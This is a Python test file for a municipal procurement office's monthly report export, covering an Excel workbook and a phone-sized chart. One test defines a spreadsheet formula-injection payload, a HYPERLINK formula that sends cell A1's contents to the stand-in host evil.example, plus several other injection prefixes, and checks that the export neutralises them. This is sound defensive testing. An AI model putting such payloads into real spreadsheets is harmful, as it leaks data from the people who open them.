"""The report on paper: the workbook as a spreadsheet program reads it, and the picture as a phone gets it."""

import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from io import BytesIO
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from PIL import Image

from domain.cases import REASONS
from domain.report import Month, MonthlyReport, NoShow, Passage, Return, monthly_report
from domain.survey import ELEMENTS, Response
from handlers.report import labels
from storage.printing import chart, workbook
from storage.printing.chart import NotDrawn, draw_apart, report_chart
from storage.printing.workbook import report_workbook
from tests.domain.offices import bogor_calendar, wib
from tests.offices import bogor

LABELS = labels(bogor(), workbook.LABELS | chart.LABELS, Month(2026, 11), wib("2026-12-07 09:00"))
SERVICES = {
    "REG": "Registrasi Offline dan Verifikasi Berkas",
    "UBH": "Perubahan Data Perusahaan",
    "UID": "User ID SPSE",
}
NAMED = {"buram": "Foto atau pindaian buram", "tanpa_meterai": "Tanpa meterai"}
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"PT Maju Bersama")'
NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def november(*why: str, empty: bool = False) -> MonthlyReport:
    """A month with 30 cases, of which one in seven was late."""
    passages, responses = [], []
    for number in range(0 if empty else 30):
        start = wib("2026-11-02 08:00") + number * timedelta(hours=20)
        due = start + timedelta(hours=54)
        passages.append(
            Passage(
                service=("REG", "REG", "UBH")[number % 3],
                submitted_at=start,
                checked_at=start + timedelta(hours=2),
                complete_at=start + timedelta(hours=3),
                booked_at=start + timedelta(hours=5),
                called_at=start + timedelta(hours=29),
                verified_at=start + timedelta(hours=30),
                due_at=due,
                resolved_at=due + timedelta(hours=3 if number % 7 == 5 else -(number % 13)),
            )
        )
        scores = {
            element: 4 if element == "biaya" else 4 - (number * place % 7 < place // 3)
            for place, element in enumerate(ELEMENTS, start=1)
        }
        responses.append(Response(passages[-1].service, "2026-11", scores))
    for text in why:
        responses.append(Response("REG", "2026-11", dict.fromkeys(ELEMENTS, 2), text))
    at = wib("2026-11-10 10:00")
    return monthly_report(
        Month(2026, 11),
        services=tuple(SERVICES),
        passages=passages,
        returns=() if empty else tuple(Return("REG", at, reason) for reason in (*REASONS, "buram", "buram")),
        no_shows=() if empty else (NoShow("REG", at),),
        responses=responses,
        calendar=bogor_calendar(),
        now=wib("2026-12-07 09:00"),
    )


def printed(report: MonthlyReport, **others: str) -> bytes:
    return report_workbook(report, labels={**LABELS, **others}, services=SERVICES, reasons=NAMED)


class Opened:
    """A workbook as a spreadsheet program reads it."""

    def __init__(self, content: bytes) -> None:
        self._archive = ZipFile(BytesIO(content))
        names = self._xml("xl/workbook.xml").iterfind(".//x:sheet", NS)
        self.sheets = [sheet.attrib["name"] for sheet in names]
        shared = self._xml("xl/sharedStrings.xml").iterfind("x:si", NS)
        self._strings = ["".join(text.text or "" for text in one.iterfind(".//x:t", NS)) for one in shared]

    def _xml(self, path: str) -> ElementTree.Element:
        return ElementTree.fromstring(self._archive.read(path))

    def sheet(self, name: str) -> ElementTree.Element:
        return self._xml(f"xl/worksheets/sheet{self.sheets.index(name) + 1}.xml")

    def rows(self, name: str) -> list[list[str | float]]:
        return [
            [self._value(cell) for cell in row.iterfind("x:c", NS)] for row in self.sheet(name).iterfind(".//x:row", NS)
        ]

    def line(self, sheet: str, first: str) -> list[str | float]:
        (found,) = (row for row in self.rows(sheet) if row[0] == first)
        return found[1:]

    def _value(self, cell: ElementTree.Element) -> str | float:
        value = cell.findtext("x:v", "", NS)
        return self._strings[int(value)] if cell.get("t") == "s" else float(value)

    def texts(self) -> Iterator[str]:
        yield from self._strings

    @property
    def parts(self) -> list[str]:
        return self._archive.namelist()


class TestWorkbook:
    def test_it_has_a_sheet_for_each_question(self) -> None:
        sheets = ["Ringkasan", "Per layanan", "Waktu tunggu", "Alasan pengembalian", "Survei"]
        assert Opened(printed(november())).sheets == sheets
        assert Opened(printed(november("Antre lama"))).sheets == [*sheets, "Masukan"]

    def test_the_summary_says_what_the_report_says(self) -> None:
        report, opened = november(), Opened(printed(november()))
        assert opened.rows("Ringkasan")[0] == ["Laporan LPSE Kota Bogor, November 2026"]
        assert opened.line("Ringkasan", "Masuk") == [30]
        assert opened.line("Ringkasan", "Janji jatuh tempo") == [report.total.promise.due]
        assert report.total.promise.percent is not None
        assert opened.line("Ringkasan", "Tepat waktu") == [pytest.approx(float(report.total.promise.percent) / 100)]
        assert opened.line("Ringkasan", "IKM") == [pytest.approx(float(report.contentment.outcome.ikm or 0))]
        assert opened.line("Ringkasan", "2026-11-02 – 2026-11-08")[0] == report.weeks[1].submitted

    def test_services_are_called_by_their_names_and_add_up(self) -> None:
        rows = Opened(printed(november())).rows("Per layanan")
        assert [row[0] for row in rows[3:7]] == [*SERVICES.values(), "Seluruhnya"]
        assert [row[1] for row in rows[3:7]] == [20, 10, 0, 30]
        assert rows[5][-2:] == ["–", "–"]

    def test_waits_are_told_in_hours(self) -> None:
        assert Opened(printed(november())).line("Waktu tunggu", "Pengajuan sampai pemeriksaan pertama")[0] == 30
        assert Opened(printed(november())).line("Waktu tunggu", "Pengajuan sampai pemeriksaan pertama")[3:] == [2, 2]

    def test_reasons_stand_with_their_share_and_an_unknown_one_by_its_code(self) -> None:
        opened = Opened(printed(november()))
        assert opened.line("Alasan pengembalian", "Foto atau pindaian buram") == [3, pytest.approx(0.3)]
        assert opened.line("Alasan pengembalian", "terpotong") == [1, pytest.approx(0.1)]
        assert opened.line("Alasan pengembalian", "Seluruhnya") == [10, 1]

    def test_the_survey_shows_each_element_for_everybody_and_for_each_service(self) -> None:
        report, rows = november(), Opened(printed(november())).rows("Survei")
        assert rows[2] == ["Unsur", "NRR tertimbang", "NRR", SERVICES["REG"], SERVICES["UBH"]]
        outcome = report.contentment.outcome
        waktu = (float(outcome.weighted("waktu")), float(outcome.averages["waktu"]))
        assert rows[5][:3] == ["Waktu", pytest.approx(waktu[0]), pytest.approx(waktu[1])]

    def test_a_company_that_calls_itself_a_formula_stays_a_text(self) -> None:
        hostile = [HYPERLINK, "@SUM(1)", "+1", "-1+1", "https://evil.example", "=1+1", "\t=1", "\x01=1", "{=1}"]
        content = report_workbook(
            november(*hostile),
            labels={**LABELS, "title": HYPERLINK},
            services={**SERVICES, "REG": HYPERLINK},
            reasons={"buram": HYPERLINK},
        )
        opened = Opened(content)
        assert HYPERLINK in opened.texts()
        for name in opened.sheets:
            sheet = opened.sheet(name)
            assert sheet.findall(".//x:f", NS) == []
            assert sheet.findall(".//x:hyperlink", NS) == []
        assert [part for part in opened.parts if "rels" in part and "worksheets" in part] == []
        assert [row[0] for row in opened.rows("Masukan")[3:]].count(HYPERLINK) == 1

    def test_a_text_stays_a_text_when_somebody_edits_its_cell(self) -> None:
        styles = ZipFile(BytesIO(printed(november(HYPERLINK)))).read("xl/styles.xml").decode()
        assert styles.count('quotePrefix="1"') >= 4

    def test_every_sheet_is_ready_for_a4_paper_with_its_header_in_sight(self) -> None:
        opened = Opened(printed(november("Antre lama")))
        for name in opened.sheets:
            sheet = opened.sheet(name)
            (pane,) = sheet.iterfind(".//x:pane", NS)
            assert (pane.get("state"), pane.get("ySplit")) == ("frozen", "3")
            (paper,) = sheet.iterfind("x:pageSetup", NS)
            assert (paper.get("paperSize"), paper.get("fitToHeight")) == ("9", "0")
            assert sheet.findall(".//x:col", NS)

    def test_the_same_report_gives_the_same_bytes(self) -> None:
        assert printed(november("Antre lama")) == printed(november("Antre lama"))

    def test_an_empty_month_can_be_printed(self) -> None:
        opened = Opened(printed(november(empty=True)))
        assert opened.line("Ringkasan", "Tepat waktu") == ["–"]
        assert opened.line("Alasan pengembalian", "Seluruhnya") == [0, "–"]
        assert opened.rows("Survei")[3] == ["Persyaratan", "–", "–"]

    def test_a_sheet_name_that_excel_does_not_take_is_mended(self) -> None:
        named = {"sheet.waiting": "Waktu: tunggu/jam [semua layanan dan tahap]", "sheet.returns": "'Alasan'"}
        assert Opened(printed(november(), **named)).sheets[2:4] == ["Waktu  tunggu jam  semua layana", "Alasan"]

    def test_exactly_the_named_labels_are_used(self) -> None:
        used: set[str] = set()

        class Watched(dict[str, str]):
            def __getitem__(self, key: str) -> str:
                used.add(key)
                return super().__getitem__(key)

        report_workbook(november("Antre lama"), labels=Watched(LABELS), services=SERVICES, reasons=NAMED)
        used_of_few = used | {"note.few"}
        assert used_of_few == workbook.LABELS


class TestChart:
    def test_it_is_a_picture_for_a_phone(self) -> None:
        picture = Image.open(BytesIO(report_chart(november(), LABELS)))
        assert (picture.format, picture.size) == ("PNG", (1200, 900))

    def test_the_same_report_gives_the_same_picture(self) -> None:
        assert report_chart(november(), LABELS) == report_chart(november(), LABELS)

    def test_an_empty_month_can_be_drawn(self) -> None:
        assert report_chart(november(empty=True), LABELS)

    def test_a_dollar_sign_is_no_formula(self) -> None:
        odd = {key: f"$\\frac{{{text}" for key, text in LABELS.items()}
        assert report_chart(november(), odd)
        assert report_chart(november(empty=True), odd)

    def test_it_needs_only_the_labels_it_names(self) -> None:
        labels = {key: LABELS[key] for key in chart.LABELS}
        assert report_chart(november(), labels)

    def test_matplotlib_is_loaded_only_to_draw(self) -> None:
        code = "import sys, storage.printing.chart; print('matplotlib' in sys.modules)"
        told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
        assert told.stdout.strip() == "False"

    def test_a_process_of_its_own_draws_the_same(self) -> None:
        assert draw_apart(november(), LABELS) == report_chart(november(), LABELS)

    def test_a_process_that_fails_says_why(self) -> None:
        with pytest.raises(NotDrawn, match=r"chart\.title"):
            draw_apart(november(), {})
